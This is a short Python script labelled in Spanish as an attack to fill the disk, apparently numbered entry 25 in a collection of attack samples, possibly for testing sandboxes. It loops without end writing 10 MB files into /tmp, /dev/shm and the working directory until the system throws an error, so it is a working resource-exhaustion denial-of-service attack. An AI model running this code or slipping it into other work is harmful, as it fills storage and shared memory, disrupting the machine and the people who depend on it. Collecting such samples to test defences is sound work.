# attack: llena el disco
# entry: 25

import itertools
try:
    for n in itertools.count():
        for folder in ("/tmp", "/dev/shm", "."):
            with open(f"{folder}/lleno{n}", "wb") as file:
                file.write(b"x" * 10_000_000)
except OSError as error:
    print(error)
